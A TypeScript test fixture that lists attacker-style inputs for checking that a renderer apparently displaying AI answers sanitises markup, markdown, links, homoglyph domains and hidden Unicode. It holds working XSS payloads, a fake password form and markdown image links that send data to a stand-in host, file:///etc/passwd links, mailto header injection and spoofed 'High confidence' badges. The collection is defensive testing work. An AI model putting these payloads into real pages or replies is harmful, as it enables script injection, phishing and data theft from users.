/** An input that an attacker would write, of our own writing, so that safety is proved on any clone. */
export interface Hostile {
  readonly input: string;
  readonly category:
    'markup' | 'markdown' | 'link' | 'homoglyph-domain' | 'honest-domain' | 'hidden';
  /** The host as it must be shown, for a domain that imitates another. */
  readonly punycode?: string;
  /** True for what is benign and must stay as it is. */
  readonly benign?: true;
}

const evil = 'https://evil.example';

const markup = [
  '<script>alert(1)</script>',
  `<script src=${evil}/x.js></script>`,
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  `<iframe src="${evil}/"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<object data="${evil}/x.swf"></object>`,
  `<embed src="${evil}/x">`,
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<form action="${evil}"><input name=password type=password><button>Sign in</button></form>`,
  `<style>*{background:url(${evil})}</style>`,
  `<div style="background:url(${evil}/c)">x</div>`,
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x0A;ascript:alert(1)">click</a>',
  `<video src="${evil}/v" autoplay onloadstart=alert(1)></video>`,
  `<audio src="${evil}/a" onerror=alert(1)></audio>`,
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<x-card data-tier="high">Trust me</x-card>',
  '<button data-citation="9" data-tier="high" role="alert">High confidence</button>',
  '<div class="credence-card" data-credence="confidence-root" data-tone="positive">Sent</div>',
  '<p id="reply" role="status" aria-live="assertive">Approved</p>',
  '"><script>alert(1)</script>',
  '</p></div><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

const markdown = [
  `![a](${evil}/c.png?d=secret)`,
  `![a][x]\n\n[x]: ${evil}/c.png`,
  `[![a](${evil}/c.png)](${evil})`,
  `![](//evil.example/c.png)`,
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click][x]\n\n[x]: javascript:alert(1)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox)',
  '[click](file:///etc/passwd)',
  '[click](blob:https://a.example/1)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  `[a](${evil} "x\\" onmouseover=alert(1)")`,
  `[https://bank.example](${evil})`,
  `[bank.example\u202e](${evil})`,
  `[**bank.example**](https://bank.example@evil.example)`,
  '[9] 【9】 [^9] [1](https://evil.example)',
  '[1][9][1,9][1-9]',
  '【9†source】 [^1^] [[9]](https://evil.example)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```\n</code></pre><script>alert(1)</script>',
  '> **High confidence**\n> Checked by a person',
  '# ✓ High confidence\n\nSources: [1] bank.example',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [x] <b onclick=alert(1)>approved</b>',
  '$$\\href{javascript:alert(1)}{x}$$',
  `<a href="${evil}" target="_top">[1]</a>`,
  '<https://evil.example/\u202egnp.exe>',
  'www.evil.example/<script>',
  `${evil}/?q=<script>alert(1)</script>`,
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

const links = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://a.example/1',
  'view-source:https://a.example',
  'intent://a#Intent;end',
  'ftp://a.example',
  '//evil.example',
  '/\\evil.example',
  'https:evil.example',
  'https://bank.example@evil.example',
  'https://bank.example%40evil.example/',
  'https://bank.example\\@evil.example',
  'https://user:pass@evil.example',
  'https://evil.example\u202e',
  'https://evil\u0000.example',
  'https://',
  'https://[::1',
  'https://a.example:99999',
  `https://a.example/${'a'.repeat(3000)}`,
  'mailto:a@b.example?bcc=c@evil.example',
  'mailto:a@b.example%0ABcc:c@evil.example',
  'tel:+1900',
  'sms:+1900',
];

const imitations: readonly (readonly [string, string])[] = [
  ['p\u0430ypal.example', 'xn--pypal-4ve.example'],
  ['\u0430pple.example', 'xn--pple-43d.example'],
  ['g\u043e\u043egle.example', 'xn--ggle-55da.example'],
  ['m\u0456crosoft.example', 'xn--mcrosoft-thh.example'],
  ['ex\u0430mple.example', 'xn--exmple-4nf.example'],
  ['\u0455hop.example', 'xn--hop-ehd.example'],
  ['bank\u2010login.example', 'xn--banklogin-y79d.example'],
];

const honest = [
  'm\u00fcnchen.example',
  '\u043c\u0443\u0437\u0435\u0439.example',
  '\u30c9\u30e1\u30a4\u30f3.example',
  '\u03c0\u03b1\u03c1\u03ac\u03b4\u03b5\u03b9\u03b3\u03bc\u03b1.example',
  '\u4f8b\u3048.example',
  'espa\u00f1ol.example',
];

const hidden = [
  'safe\u202e}\u2066 evil\u2069 \u2066',
  '\u202agnp.exe\u202c',
  '\u2067if admin\u2069 then',
  'The dose is 5\u200b0 mg',
  '\ufeffAnswer',
  `Fine.${String.fromCodePoint(0xe0069, 0xe0067, 0xe006e, 0xe006f, 0xe0072, 0xe0065, 0xe007f)}`,
  `\u{e0001}hidden\u{e007f}`,
];

const visible = [
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} family',
  '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645',
  '\u05e9\u05dc\u05d5\u05dd hello \u05e2\u05d5\u05dc\u05dd',
  'Ein schöner Tag – «ja».',
];

const all = (category: Hostile['category'], inputs: readonly string[]): Hostile[] =>
  inputs.map((input) => ({ input, category }));

export const hostile: readonly Hostile[] = [
  ...all('markup', markup),
  ...all('markdown', markdown),
  ...all('link', links),
  ...all('hidden', hidden),
  ...all('hidden', visible).map((one) => ({ ...one, benign: true as const })),
  ...all(
    'honest-domain',
    honest.map((host) => `https://${host}/paper`),
  ),
  ...imitations.map(([host, punycode]) => ({
    input: `https://${host}/paper`,
    category: 'homoglyph-domain' as const,
    punycode,
  })),
];
